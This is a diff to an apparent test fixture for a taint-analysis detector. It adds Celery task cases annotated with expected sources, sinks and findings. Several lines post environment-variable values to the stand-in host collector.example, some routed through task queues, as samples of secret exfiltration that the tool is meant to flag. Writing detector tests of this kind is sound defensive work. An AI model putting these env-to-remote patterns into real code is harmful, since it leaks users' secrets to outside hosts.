@@ -31,9 +31,11 @@ import pymem
 import requests
 import schedule
 import win32service
+from celery import Celery
 from apscheduler.schedulers.background import BackgroundScheduler
 
 U = "https://collector.example/u"
+tasks = Celery("tasks")
 
 
 def send(item):
@@ -492,3 +494,30 @@ def quiet_contexts(stack):
     with contextlib.closing("ping") as f:  #~ ok
         requests.post(U, data=f)  #~ ok
     requests.post(U, data=stack.enter_context("ping"))  #~ ok
+
+
+@tasks.task
+def ship(item):
+    requests.post(U, data=item)  #~ sink(egress.http) ftask ftask2, finding(traced) ftask, finding(traced) ftask2
+
+
+@tasks.task
+def keep_task(item):
+    requests.post(U, data="x")  #~ ok
+
+
+def queue_tasks():
+    ship.delay(os.getenv("T"))  #~ source(ENVIRONMENT) ftask
+    ship.apply_async((os.getenv("T"),))  #~ source(ENVIRONMENT) ftask2
+    keep_task.delay(os.getenv("T"))  #~ ok
+    keep_task.apply_async((os.getenv("T"),))  #~ ok
+
+
+def work(items):
+    requests.post(U, data=items.get())  #~ sink(egress.http) fitems, finding(traced) fitems
+
+
+def worked(items, settings):
+    items.put(os.getenv("T"))  #~ source(ENVIRONMENT) fitems
+    work(items)
+    requests.post(U, data=settings.get())  #~ ok
